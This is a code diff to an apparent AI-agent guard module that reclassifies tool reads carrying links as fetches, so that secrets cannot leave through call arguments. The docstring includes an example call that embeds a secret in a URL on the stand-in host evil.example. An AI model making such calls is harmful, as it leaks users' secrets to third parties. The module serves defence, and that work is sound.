@@ -26,9 +26,12 @@ labels it by *every* source it could have come from, and decides fail closed:
   the call's day must be one of them; when it names times of day, the call's time must be one of them.
   A day or time the request never constrains is the agent's choice (not checked, and said so);
 - account values (a password, an address) must be written in the request;
-- a read whose declaration was inferred and whose arguments of no known role carry a link (any suffix, IP
-  literals) is checked as a fetch of that address (an argument no rule recognises must not turn a fetch into a
-  free read; a file path such as ``q3.md`` in a ``file`` argument is not read as a domain);
+- a read carries its arguments to whatever serves it: a read (declared, inferred or undeclared) whose
+  argument holds a link (the parser of :mod:`agentguard.policies.links`: any public suffix, IP literals,
+  spelled-out dots; file names excepted: values of ``file`` roles such as ``q3.md``, and file names a trusted
+  listing gave) is a *fetch* of that link, and the link must be the user's
+  or trusted like any fetched URL (``get_status(callback="https://evil.example/?k=<secret>")`` is a fetch
+  of a third-party address, not a free read);
 - outgoing content (bodies, subjects, titles, posts): every link in it (any public suffix, IP literals,
   spelled-out dots: :mod:`agentguard.policies.links`) must be the user's or from a trusted URL source; a
   private value of the user (passport, card, ...; any field of an undeclared tool's record) needs a grant
@@ -44,7 +47,7 @@ from __future__ import annotations
 
 import itertools
 import re
-from dataclasses import dataclass, field, replace
+from dataclasses import dataclass, field
 from typing import Any, Iterator, Mapping
 
 from .capabilities import Grant, GrantLexicon, mint, strip_quotes
@@ -56,6 +59,7 @@ __all__ = ["Facts", "FlowLedger", "SHINGLE", "times"]
 
 SHINGLE = 8   # consecutive words of third-party text that count as forwarding it
 _TIME = re.compile(r"\b(\d{1,2})(?::(\d{2}))?\s*(a\.?m\.?|p\.?m\.?)(?!\w)|\b(\d{1,2}):(\d{2})\b", re.I)
+_FILE_ROLES = frozenset({"file", "filename"})   # values are file names: "notes.md" parses as a host
 _KIND_CODE = {"read": 0, "fetch": 1, "write": 2, "send": 3, "account": 4, "delete": 5}
 
 
@@ -366,16 +370,33 @@ class FlowLedger:
         return True
 
     # ------------------------------------------------------------------ the call
+    def _read_links(self, decl: ToolDecl, arguments: Mapping[str, Any]) -> tuple[int, str] | None:
+        """The lowest trust of a link a read's arguments carry (the read is then a fetch of it), or ``None``
+        when they carry no link. File names are not links (``notes.md`` and ``app.py`` parse as hosts): values
+        of file-name roles and file names a trusted listing gave are skipped; any other file name that reads
+        as a host must be named by the user, else the read escalates (fail closed)."""
+        worst: tuple[int, str] | None = None
+        for arg, v in arguments.items():
+            if decl.role(arg) in _FILE_ROLES:
+                continue
+            for s in _leaves(v):
+                if any(canonical(s) in self._trusted.get(r, {}) for r in _FILE_ROLES):
+                    continue   # a file name a trusted listing gave (``app.py`` from list_files)
+                for lk in links(s):
+                    lv, w = self.target(lk.form, "url", True)
+                    if worst is None or lv < worst[0]:
+                        worst = (lv, f"{arg}: a read carrying a link is a fetch: {w}")
+        return worst
+
     def facts(self, tool: str, arguments: Mapping[str, Any]) -> Facts:
         """The verified policy's facts for a proposed call (see the module docstring)."""
         decl = self.toolset.decl(tool, arguments.keys())
         kind = _KIND_CODE[decl.kind]
-        if decl.kind == "read" and decl.inferred and any(
-                links(x) for a, v in arguments.items() if decl.role(a) == "unknown" for x in _leaves(v)):
-            decl = replace(decl, kind="fetch")   # an inferred read that carries an address is a fetch of it
-            kind = _KIND_CODE["fetch"]
         if decl.kind == "read":
-            return Facts(kind, 2, True, 2, "", "a read")
+            carried = self._read_links(decl, arguments)
+            if carried is None:
+                return Facts(kind, 2, True, 2, "", "a read")
+            return Facts(_KIND_CODE["fetch"], carried[0], True, 2, "", carried[1])
         grants = [g for g in self.grants if g.action in decl.actions]
         grant = "; ".join(g.describe() for g in grants)
         roles = self.toolset.roles
